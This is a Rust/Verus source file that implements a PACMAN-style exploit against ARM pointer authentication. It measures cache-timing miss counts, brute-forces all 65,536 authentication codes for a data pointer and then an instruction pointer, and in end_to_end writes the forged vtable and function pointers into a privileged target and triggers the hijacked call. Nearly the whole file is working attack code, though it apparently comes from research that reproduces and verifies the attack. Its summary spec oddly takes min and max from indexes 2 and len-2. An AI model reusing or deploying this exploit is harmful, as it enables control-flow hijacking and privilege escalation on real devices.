//! Differentiation and brute-force search: run many trials, classify
//! miss-count distributions, and either confirm two known values are
//! distinguishable or search the full 16-bit code space for the unique
//! value whose miss-count profile matches a successfully used pointer.
//!
//! Averages are compared as exact rationals: a sample-set average
//! `total / count` is kept as its numerator and denominator, and every
//! comparison is cross-multiplied, so no precision is lost.

use vstd::prelude::*;
use crate::oracle::{KernReturn, MemoryOracle, TimingStrategy};
use crate::pac;
use crate::pac::{PAC_BITMASK, spec_encode_pac, spec_extract_pac, spec_pac_base};
use crate::rng;
use crate::stats;
use crate::stats::{SampleStats, sum_u64};
use crate::trial::{
    DirectTarget,
    IndirectTarget,
    PacmanAttackTarget,
    TrialConfig,
    evsets_wf,
    pacman_trial,
};

verus! {

/// How many times to repeat a given trial.
pub const DATA_NUM_ITERS: usize = 8;

/// How many trials to run; each trial tests one candidate value.
pub const DATA_NUM_TRIALS: usize = 12;

/// Iteration count for inspecting the final set of potential matches;
/// this can be large since ideally there are few of them.
pub const DATA_NUM_FINAL_ITERS: usize = 2048;

/// How many whole misses above the first run's average a run must sit to
/// be marked significant, for data targets.
pub const DATA_HOW_FAR_ABOVE_AVERAGE: u64 = 4;

/// How many times to repeat a given trial.
pub const INST_NUM_ITERS: usize = 8;

/// How many trials to run; each trial tests one candidate value.
pub const INST_NUM_TRIALS: usize = 12;

/// Iteration count for inspecting the final set of potential matches.
pub const INST_NUM_FINAL_ITERS: usize = 2048;

/// How many whole misses above the first run's average a run must sit to
/// be marked significant, for instruction targets.
pub const INST_HOW_FAR_ABOVE_AVERAGE: u64 = 4;

/// The margin used by the brute-force search.
pub const HOW_FAR_ABOVE_AVERAGE: u64 = 4;

/// Search-wide parameters: the confirmation iteration count and the
/// significance margin in whole misses.
#[derive(Clone, Copy, PartialEq, Eq, Structural, Debug)]
pub struct SearchConfig {
    pub num_final_iters: usize,
    pub margin: u64,
}

impl SearchConfig {
    pub open spec fn wf(self) -> bool {
        &&& 3 <= self.num_final_iters <= 0x10000
        &&& 1 <= self.margin <= 0x10000
    }

    /// Runtime validation of the same bounds.
    pub fn validate(&self) -> (r: bool)
        ensures
            r == self.wf(),
    {
        3 <= self.num_final_iters && self.num_final_iters <= 0x10000 && 1 <= self.margin
            && self.margin <= 0x10000
    }
}

/// A value differs from a base address only in its code field; that is,
/// re-encoding its extracted code over the base gives the value back.
pub open spec fn is_code_encoding(value: u64, base: u64) -> bool {
    value == spec_encode_pac(spec_extract_pac(value), base)
}

/// The pointer whose code field a brute-force run enumerates.
pub open spec fn spec_forge_target(victim: PacmanAttackTarget) -> u64 {
    match victim {
        PacmanAttackTarget::Direct(target) => target.guess_ptr,
        PacmanAttackTarget::Indirect(target) => target.inner_guess_ptr,
    }
}

/// A candidate's average miss count clears the relaxed significance bar:
/// `total / iters >= threshold_num / iters - margin / 2`, compared with
/// both sides scaled by `2 * iters`.
pub open spec fn spec_significant(total: int, threshold_num: int, margin: int, iters: int) -> bool {
    2 * total + margin * iters >= 2 * threshold_num
}

/// The running state of one brute-force run: the significance threshold,
/// fixed from the first candidate's average plus a margin, and the
/// candidates so far whose average cleared the relaxed bar.
///
/// The threshold is the numerator of an exact rational with denominator
/// `iters`.
pub struct SearchState {
    pub threshold_num: u64,
    pub iters: usize,
    pub margin: u64,
    pub potential_matches: Vec<u64>,
}

impl SearchState {
    pub open spec fn wf(self) -> bool {
        &&& 3 <= self.iters <= 0x10000
        &&& 1 <= self.margin <= 0x10000
        &&& self.threshold_num <= 0x2_0000_0000
    }

    /// Fix the threshold from the first candidate's sample set: its
    /// average plus the margin, clamped to the eviction-set size, which
    /// is the highest average any candidate can reach.
    pub fn init(first_total: u64, evset_size: usize, iters: usize, margin: u64) -> (r: SearchState)
        requires
            3 <= iters <= 0x10000,
            1 <= margin <= 0x10000,
            evset_size <= 0x10000,
            first_total <= evset_size * iters,
        ensures
            r.wf(),
            r.iters == iters,
            r.margin == margin,
            r.threshold_num == if first_total + margin * iters <= evset_size * iters {
                first_total + margin * iters
            } else {
                (evset_size * iters) as int
            },
            r.potential_matches@ == Seq::<u64>::empty(),
    {
        proof {
            stats::lemma_mul_bounds(margin as int, iters as int, 0x10000, 0x10000);
            stats::lemma_mul_bounds(evset_size as int, iters as int, 0x10000, 0x10000);
        }
        let raw: u64 = first_total + margin * (iters as u64);
        let cap: u64 = (evset_size as u64) * (iters as u64);
        // An average above the eviction-set size is impossible; round the
        // demand down to it
        let threshold_num: u64 = if raw <= cap {
            raw
        } else {
            cap
        };
        SearchState { threshold_num, iters, margin, potential_matches: Vec::new() }
    }

    /// Is a sample-set average at least the unrelaxed threshold, with the
    /// candidate's average over `count` iterations? Exact cross-multiplied
    /// rational comparison.
    pub fn meets_threshold(&self, total: u64, count: usize) -> (r: bool)
        requires
            self.wf(),
            total <= 0x1_0000_0000,
            count <= 0x10000,
        ensures
            r == ((total as int) * (self.iters as int) >= (self.threshold_num as int) * (
            count as int)),
    {
        proof {
            stats::lemma_mul_bounds(total as int, self.iters as int, 0x1_0000_0000, 0x10000);
            stats::lemma_mul_bounds(self.threshold_num as int, count as int, 0x2_0000_0000, 0x10000);
        }
        total * (self.iters as u64) >= self.threshold_num * (count as u64)
    }

    /// Record one swept candidate: append it to the potential matches
    /// exactly when its average clears the relaxed significance bar. The
    /// threshold, once fixed, does not change for the remainder of the
    /// run.
    pub fn record_candidate(&mut self, value: u64, total: u64)
        requires
            old(self).wf(),
            total <= 0x1_0000_0000,
        ensures
            final(self).wf(),
            final(self).threshold_num == old(self).threshold_num,
            final(self).iters == old(self).iters,
            final(self).margin == old(self).margin,
            final(self).potential_matches@ == if spec_significant(
                total as int,
                old(self).threshold_num as int,
                old(self).margin as int,
                old(self).iters as int,
            ) {
                old(self).potential_matches@.push(value)
            } else {
                old(self).potential_matches@
            },
    {
        proof {
            stats::lemma_mul_bounds(self.margin as int, self.iters as int, 0x10000, 0x10000);
        }
        if 2 * total + self.margin * (self.iters as u64) >= 2 * self.threshold_num {
            self.potential_matches.push(value);
        }
    }
}

/// One differentiation trial's labeled outcome: which of the two
/// candidates was tested, the sorted sample set, and its summary.
pub struct TrialReport {
    pub used_correct: bool,
    pub samples: Vec<u64>,
    pub stats: SampleStats,
}

/// What every differentiation report satisfies: a full sorted sample set
/// of in-range miss counts, summarized exactly.
pub open spec fn trial_report_wf(r: TrialReport, config: TrialConfig) -> bool {
    &&& r.samples@.len() == config.num_iters
    &&& stats::sorted(r.samples@)
    &&& forall|j: int| 0 <= j < r.samples@.len() ==> r.samples@[j] <= config.evset_size
    &&& r.stats.total == sum_u64(r.samples@)
    &&& r.stats.count == r.samples@.len()
    &&& r.stats.min == r.samples@[2]
    &&& r.stats.median == r.samples@[r.samples@.len() as int / 2]
    &&& r.stats.max == r.samples@[r.samples@.len() - 2]
}

/// Attempt to differentiate a correct from an incorrect PAC before
/// committing to a full search: run `num_trials` sample sets, each
/// randomly testing one of the two candidates, with the first trial
/// forced to the incorrect one and the second to the correct one as a
/// sanity baseline, and report each labeled summary.
pub fn pacman_differentiate<O: MemoryOracle>(
    oracle: &mut O,
    victim: &PacmanAttackTarget,
    correct_ptr: u64,
    incorrect_ptr: u64,
    strategy: TimingStrategy,
    config: &TrialConfig,
    num_trials: usize,
    forge_evset: &Vec<u64>,
    forge_evset_indexes: &Vec<usize>,
    limit_evset: &Vec<u64>,
    limit_evset_indexes: &Vec<usize>,
) -> (r: Result<Vec<TrialReport>, KernReturn>)
    requires
        config.wf(),
        evsets_wf(*config, forge_evset@, forge_evset_indexes@, limit_evset@, limit_evset_indexes@),
        2 <= num_trials <= 0x10000,
    ensures
        r is Ok ==> r->Ok_0.len() == num_trials && r->Ok_0[0].used_correct == false
            && r->Ok_0[1].used_correct == true && forall|i: int|
            0 <= i < r->Ok_0.len() ==> trial_report_wf(#[trigger] r->Ok_0[i], *config),
{
    // Decide up front which trials test the correct candidate, always
    // ensuring at least one of each
    let mut use_correct_pac: Vec<bool> = Vec::new();
    let mut i: usize = 0;
    while i < num_trials
        invariant
            use_correct_pac.len() == i,
            i <= num_trials,
        decreases num_trials - i,
    {
        use_correct_pac.push(rng::coin_flip());
        i = i + 1;
    }
    use_correct_pac.set(0, false);
    use_correct_pac.set(1, true);

    let mut results: Vec<TrialReport> = Vec::new();
    let mut t: usize = 0;
    while t < num_trials
        invariant
            config.wf(),
            evsets_wf(
                *config,
                forge_evset@,
                forge_evset_indexes@,
                limit_evset@,
                limit_evset_indexes@,
            ),
            use_correct_pac.len() == num_trials,
            2 <= num_trials <= 0x10000,
            use_correct_pac@[0] == false,
            use_correct_pac@[1] == true,
            t <= num_trials,
            results.len() == t,
            forall|k: int|
                0 <= k < results.len() ==> (#[trigger] results[k]).used_correct
                    == use_correct_pac@[k],
            forall|k: int|
                0 <= k < results.len() ==> trial_report_wf(#[trigger] results[k], *config),
        decreases num_trials - t,
    {
        let used_correct = use_correct_pac[t];
        let value_to_use = if used_correct {
            correct_ptr
        } else {
            incorrect_ptr
        };
        let mut samples = match pacman_trial(
            oracle,
            victim,
            value_to_use,
            strategy,
            config,
            forge_evset,
            forge_evset_indexes,
            limit_evset,
            limit_evset_indexes,
        ) {
            Ok(v) => v,
            Err(kr) => {
                return Err(kr);
            },
        };
        proof {
            stats::lemma_sum_bounded(samples@, config.evset_size as u64);
            stats::lemma_mul_bounds(config.num_iters as int, config.evset_size as int, 0x10000, 0x10000);
        }
        let ghost presort = samples@;
        let st = stats::summarize(&mut samples);
        proof {
            stats::lemma_sum_permutation(samples@, presort);
            stats::lemma_permutation_bounded(samples@, presort, config.evset_size as u64);
        }
        results.push(TrialReport { used_correct, samples, stats: st });
        t = t + 1;
    }
    Ok(results)
}

/// The outcome of one brute-force run: the accepted code value, if any
/// candidate was confirmed, along with the fixed threshold numerator,
/// the number of candidates swept, and both match lists.
pub struct BruteforceOutcome {
    /// The accepted encoded pointer, or `None` if no candidate was ever
    /// confirmed; callers must report failure rather than proceed with an
    /// unconfirmed value.
    pub answer: Option<u64>,
    /// The significance threshold, fixed from the first candidate, as the
    /// numerator of a rational with denominator `num_iters`.
    pub threshold_num: u64,
    /// How many candidates the sweep tested.
    pub candidates_tested: usize,
    /// Candidates whose sweep average cleared the relaxed bar.
    pub potential_matches: Vec<u64>,
    /// Confirmed candidates, as (total miss count over the confirmation
    /// run, candidate value) pairs.
    pub final_matches: Vec<(u64, u64)>,
}

/// Every clause the brute-force search promises of a completed run.
pub open spec fn bruteforce_outcome_wf(r: BruteforceOutcome, victim: PacmanAttackTarget) -> bool {
    let base = spec_pac_base(spec_forge_target(victim));
    &&& r.candidates_tested == pac::PAC_SPACE_SIZE
    &&& forall|i: int|
        0 <= i < r.potential_matches@.len() ==> is_code_encoding(
            #[trigger] r.potential_matches@[i],
            base,
        )
    &&& forall|i: int|
        0 <= i < r.final_matches@.len() ==> r.potential_matches@.contains(
            (#[trigger] r.final_matches@[i]).1,
        )
    &&& (r.answer is None <==> r.final_matches@.len() == 0)
    &&& (r.final_matches@.len() > 0 ==> exists|i: int|
        0 <= i < r.final_matches@.len() && r.answer == Some((#[trigger] r.final_matches@[i]).1)
            && (forall|j: int|
            0 <= j < r.final_matches@.len() ==> (#[trigger] r.final_matches@[j]).0
                <= r.final_matches@[i].0) && (forall|j: int|
            i < j < r.final_matches@.len() ==> (#[trigger] r.final_matches@[j]).0
                < r.final_matches@[i].0))
}

/// Brute-force the full code space for one victim: sweep all 65,536
/// codes re-encoded over the candidate pointer, fix the significance
/// threshold from the first candidate's average plus the margin, record
/// every candidate whose average clears the relaxed bar, then re-run the
/// potential matches with the larger confirmation iteration count and
/// keep those still meeting the unrelaxed threshold. Of the survivors,
/// the one with the highest confirmed total miss count is the answer; if
/// none survives, the answer is `None`, never a guess.
pub fn pacman_bruteforce<O: MemoryOracle>(
    oracle: &mut O,
    victim: &PacmanAttackTarget,
    strategy: TimingStrategy,
    config: &TrialConfig,
    search_config: &SearchConfig,
    forge_evset: &Vec<u64>,
    forge_evset_indexes: &Vec<usize>,
    limit_evset: &Vec<u64>,
    limit_evset_indexes: &Vec<usize>,
) -> (r: Result<BruteforceOutcome, KernReturn>)
    requires
        config.wf(),
        search_config.wf(),
        evsets_wf(*config, forge_evset@, forge_evset_indexes@, limit_evset@, limit_evset_indexes@),
    ensures
        r is Ok ==> bruteforce_outcome_wf(r->Ok_0, *victim),
{
    let ghost base = spec_pac_base(spec_forge_target(*victim));
    // Pull the pointer to forge out of the victim object
    let forge_me = match victim {
        PacmanAttackTarget::Direct(target) => target.guess_ptr,
        PacmanAttackTarget::Indirect(target) => target.inner_guess_ptr,
    };

    let mut it = pac::iterate_pacs(forge_me);
    let mut num_trials_complete: usize = 0;
    let mut state = SearchState {
        threshold_num: 0,
        iters: config.num_iters,
        margin: search_config.margin,
        potential_matches: Vec::new(),
    };
    loop
        invariant
            config.wf(),
            search_config.wf(),
            evsets_wf(
                *config,
                forge_evset@,
                forge_evset_indexes@,
                limit_evset@,
                limit_evset_indexes@,
            ),
            it.inv(),
            it.base() == base,
            0 <= it.emitted() <= 0x10000,
            num_trials_complete == it.emitted(),
            num_trials_complete > 0 ==> state.wf(),
            state.iters == config.num_iters,
            state.margin == search_config.margin,
            forall|i: int|
                0 <= i < state.potential_matches@.len() ==> is_code_encoding(
                    #[trigger] state.potential_matches@[i],
                    base,
                ),
        ensures
            num_trials_complete == 0x10000,
            state.wf(),
            state.iters == config.num_iters,
            forall|i: int|
                0 <= i < state.potential_matches@.len() ==> is_code_encoding(
                    #[trigger] state.potential_matches@[i],
                    base,
                ),
        decreases 0x10000 - it.emitted(),
    {
        let pac_guess = match it.next() {
            Some(v) => v,
            None => {
                break ;
            },
        };
        proof {
            pac::lemma_pac_round_trip((num_trials_complete as u64) as u16, base);
        }
        let mut samples = match pacman_trial(
            oracle,
            victim,
            pac_guess,
            strategy,
            config,
            forge_evset,
            forge_evset_indexes,
            limit_evset,
            limit_evset_indexes,
        ) {
            Ok(v) => v,
            Err(kr) => {
                return Err(kr);
            },
        };
        proof {
            stats::lemma_sum_bounded(samples@, config.evset_size as u64);
            stats::lemma_mul_bounds(config.num_iters as int, config.evset_size as int, 0x10000, 0x10000);
        }
        let st = stats::summarize(&mut samples);
        if num_trials_complete == 0 {
            // The first candidate's average, assumed a miss baseline,
            // fixes the threshold for the whole run
            state = SearchState::init(
                st.total,
                config.evset_size,
                config.num_iters,
                search_config.margin,
            );
        }
        state.record_candidate(pac_guess, st.total);
        num_trials_complete = num_trials_complete + 1;
    }

    // Re-run each potential match with the larger iteration count to
    // suppress noise; keep those still meeting the unrelaxed threshold
    let mut final_config = *config;
    final_config.num_iters = search_config.num_final_iters;
    let mut final_matches: Vec<(u64, u64)> = Vec::new();
    let mut p: usize = 0;
    while p < state.potential_matches.len()
        invariant
            config.wf(),
            search_config.wf(),
            final_config == (TrialConfig {
                num_iters: search_config.num_final_iters,
                ..*config
            }),
            evsets_wf(
                final_config,
                forge_evset@,
                forge_evset_indexes@,
                limit_evset@,
                limit_evset_indexes@,
            ),
            state.wf(),
            p <= state.potential_matches.len(),
            forall|i: int|
                0 <= i < state.potential_matches@.len() ==> is_code_encoding(
                    #[trigger] state.potential_matches@[i],
                    base,
                ),
            forall|i: int|
                0 <= i < final_matches@.len() ==> state.potential_matches@.contains(
                    (#[trigger] final_matches@[i]).1,
                ),
        decreases state.potential_matches.len() - p,
    {
        let potential_match = state.potential_matches[p];
        let mut samples = match pacman_trial(
            oracle,
            victim,
            potential_match,
            strategy,
            &final_config,
            forge_evset,
            forge_evset_indexes,
            limit_evset,
            limit_evset_indexes,
        ) {
            Ok(v) => v,
            Err(kr) => {
                return Err(kr);
            },
        };
        proof {
            stats::lemma_sum_bounded(samples@, final_config.evset_size as u64);
            stats::lemma_mul_bounds(
                final_config.num_iters as int,
                final_config.evset_size as int,
                0x10000,
                0x10000,
            );
        }
        let st = stats::summarize(&mut samples);
        if state.meets_threshold(st.total, search_config.num_final_iters) {
            final_matches.push((st.total, potential_match));
        }
        p = p + 1;
    }

    // Of the confirmed candidates, report the one with the highest total
    // miss count over its confirmation run
    if final_matches.len() == 0 {
        return Ok(
            BruteforceOutcome {
                answer: None,
                threshold_num: state.threshold_num,
                candidates_tested: num_trials_complete,
                potential_matches: state.potential_matches,
                final_matches,
            },
        );
    }
    let mut best: usize = 0;
    let mut b: usize = 1;
    while b < final_matches.len()
        invariant
            final_matches.len() > 0,
            best < b <= final_matches.len(),
            forall|j: int| 0 <= j < b ==> (#[trigger] final_matches@[j]).0 <= final_matches@[
                best as int].0,
            forall|j: int| best < j < b ==> (#[trigger] final_matches@[j]).0 < final_matches@[
                best as int].0,
        decreases final_matches.len() - b,
    {
        if final_matches[b].0 >= final_matches[best].0 {
            best = b;
        }
        b = b + 1;
    }
    let final_pac = final_matches[best].1;
    Ok(
        BruteforceOutcome {
            answer: Some(final_pac),
            threshold_num: state.threshold_num,
            candidates_tested: num_trials_complete,
            potential_matches: state.potential_matches,
            final_matches,
        },
    )
}

/// The victim layout one end-to-end run works over: the holder object,
/// its original vtable pointer, the forged vtable region, the gadget to
/// redirect to, and the per-object salt constants.
#[derive(Clone, Copy, PartialEq, Eq, Structural, Debug)]
pub struct EndToEndTargets {
    pub victim_object: u64,
    pub victim_vtable: u64,
    pub new_vtable: u64,
    pub win: u64,
    pub data_salt_const: u64,
    pub inst_salt_const: u64,
}

/// Why an end-to-end run stopped. A brute-forced value that does not
/// match the ground-truth oracle aborts the run rather than risking the
/// privileged target's state with a wrong pointer.
#[derive(Clone, Copy, PartialEq, Eq, Structural, Debug)]
pub enum EndToEndError {
    /// A privileged call failed mid-attack.
    Kernel(KernReturn),
    /// The data-pointer search confirmed no candidate.
    DataNotFound,
    /// The data-pointer answer disagrees with the ground-truth oracle.
    DataMismatch,
    /// The instruction-pointer search confirmed no candidate.
    InstNotFound,
    /// The instruction-pointer answer disagrees with the oracle.
    InstMismatch,
}

/// Both recovered signed pointers of a completed end-to-end run.
#[derive(Clone, Copy, PartialEq, Eq, Structural, Debug)]
pub struct EndToEndOutcome {
    pub data_signed: u64,
    pub inst_signed: u64,
}

/// Two-stage end-to-end composition: brute-force the data-pointer code
/// for the forged vtable pointer, cross-check it against the
/// ground-truth signing oracle, then brute-force the matching
/// instruction-pointer code through an indirect target that passes
/// through the newly forged pointer, cross-check again, and only then
/// install both pointers and trigger the redirected call. Any mismatch
/// aborts: carrying a wrong value forward could crash the privileged
/// target.
pub fn end_to_end<O: MemoryOracle>(
    oracle: &mut O,
    targets: &EndToEndTargets,
    data_config: &TrialConfig,
    inst_config: &TrialConfig,
    data_search: &SearchConfig,
    inst_search: &SearchConfig,
    data_evset: &Vec<u64>,
    data_indexes: &Vec<usize>,
    inst_evset: &Vec<u64>,
    inst_indexes: &Vec<usize>,
    limit_evset: &Vec<u64>,
    limit_indexes: &Vec<usize>,
) -> (r: Result<EndToEndOutcome, EndToEndError>)
    requires
        data_config.wf(),
        inst_config.wf(),
        data_search.wf(),
        inst_search.wf(),
        evsets_wf(*data_config, data_evset@, data_indexes@, limit_evset@, limit_indexes@),
        evsets_wf(*inst_config, inst_evset@, inst_indexes@, limit_evset@, limit_indexes@),
    ensures
        r is Ok ==> is_code_encoding(
            r->Ok_0.data_signed,
            spec_pac_base(targets.new_vtable | PAC_BITMASK),
        ) && is_code_encoding(r->Ok_0.inst_signed, spec_pac_base(targets.win | PAC_BITMASK)),
{
    // Stage one: recover the data-pointer code for the forged vtable.
    // The ground truth is computed only to verify the search; the attack
    // itself never relies on it.
    let salt_data = pac::get_salt(targets.victim_object | PAC_BITMASK, targets.data_salt_const);
    let data_oracle = match oracle.forge_sign_data(targets.new_vtable | PAC_BITMASK, salt_data) {
        Ok(v) => v,
        Err(kr) => {
            return Err(EndToEndError::Kernel(kr));
        },
    };
    let data_target = PacmanAttackTarget::Direct(
        DirectTarget {
            holder: targets.victim_object,
            train_ptr: targets.victim_vtable,
            guess_ptr: targets.new_vtable | PAC_BITMASK,
        },
    );
    let data_outcome = match pacman_bruteforce(
        oracle,
        &data_target,
        TimingStrategy::DataAccess,
        data_config,
        data_search,
        data_evset,
        data_indexes,
        limit_evset,
        limit_indexes,
    ) {
        Ok(o) => o,
        Err(kr) => {
            return Err(EndToEndError::Kernel(kr));
        },
    };
    let new_vtable_signed = match data_outcome.answer {
        Some(x) => x,
        None => {
            return Err(EndToEndError::DataNotFound);
        },
    };
    proof {
        lemma_answer_is_encoding(data_outcome, data_target, new_vtable_signed);
    }
    if new_vtable_signed != data_oracle {
        // Aborting early: proceeding with a wrong data pointer could
        // panic the privileged target
        return Err(EndToEndError::DataMismatch);
    }

    // Stage two: recover the instruction-pointer code through the newly
    // forged outer pointer.
    let salt_inst = pac::get_salt(targets.new_vtable | PAC_BITMASK, targets.inst_salt_const);
    let inst_oracle = match oracle.forge_sign_inst(targets.win | PAC_BITMASK, salt_inst) {
        Ok(v) => v,
        Err(kr) => {
            return Err(EndToEndError::Kernel(kr));
        },
    };
    let inst_target = PacmanAttackTarget::Indirect(
        IndirectTarget {
            outer_holder: targets.victim_object,
            inner_holder: targets.new_vtable,
            outer_train_ptr: targets.victim_vtable,
            outer_guess_ptr: new_vtable_signed,
            inner_guess_ptr: targets.win | PAC_BITMASK,
        },
    );
    let inst_outcome = match pacman_bruteforce(
        oracle,
        &inst_target,
        TimingStrategy::InstExec,
        inst_config,
        inst_search,
        inst_evset,
        inst_indexes,
        limit_evset,
        limit_indexes,
    ) {
        Ok(o) => o,
        Err(kr) => {
            return Err(EndToEndError::Kernel(kr));
        },
    };
    let win_signed = match inst_outcome.answer {
        Some(x) => x,
        None => {
            return Err(EndToEndError::InstNotFound);
        },
    };
    proof {
        lemma_answer_is_encoding(inst_outcome, inst_target, win_signed);
    }
    if win_signed != inst_oracle {
        return Err(EndToEndError::InstMismatch);
    }

    // Give it a use: install both forged pointers and take the
    // redirected call architecturally
    match oracle.kernel_write(targets.new_vtable, win_signed) {
        Ok(_) => (),
        Err(kr) => {
            return Err(EndToEndError::Kernel(kr));
        },
    }
    match oracle.kernel_write(targets.victim_object, new_vtable_signed) {
        Ok(_) => (),
        Err(kr) => {
            return Err(EndToEndError::Kernel(kr));
        },
    }
    oracle.trigger_nonspeculative();
    Ok(EndToEndOutcome { data_signed: new_vtable_signed, inst_signed: win_signed })
}

/// A confirmed brute-force answer came out of the potential-match list,
/// so it differs from the enumerated base only in its code field.
proof fn lemma_answer_is_encoding(
    outcome: BruteforceOutcome,
    victim: PacmanAttackTarget,
    value: u64,
)
    requires
        bruteforce_outcome_wf(outcome, victim),
        outcome.answer == Some(value),
    ensures
        is_code_encoding(value, spec_pac_base(spec_forge_target(victim))),
{
    let base = spec_pac_base(spec_forge_target(victim));
    let i = choose|i: int|
        0 <= i < outcome.final_matches@.len() && outcome.answer == Some(
            (#[trigger] outcome.final_matches@[i]).1,
        ) && (forall|j: int|
            0 <= j < outcome.final_matches@.len() ==> (#[trigger] outcome.final_matches@[j]).0
                <= outcome.final_matches@[i].0) && (forall|j: int|
            i < j < outcome.final_matches@.len() ==> (#[trigger] outcome.final_matches@[j]).0
                < outcome.final_matches@[i].0);
    assert(outcome.potential_matches@.contains(outcome.final_matches@[i].1));
    let k = choose|k: int|
        0 <= k < outcome.potential_matches@.len() && outcome.potential_matches@[k]
            == outcome.final_matches@[i].1;
    assert(is_code_encoding(outcome.potential_matches@[k], base));
}

} // verus!
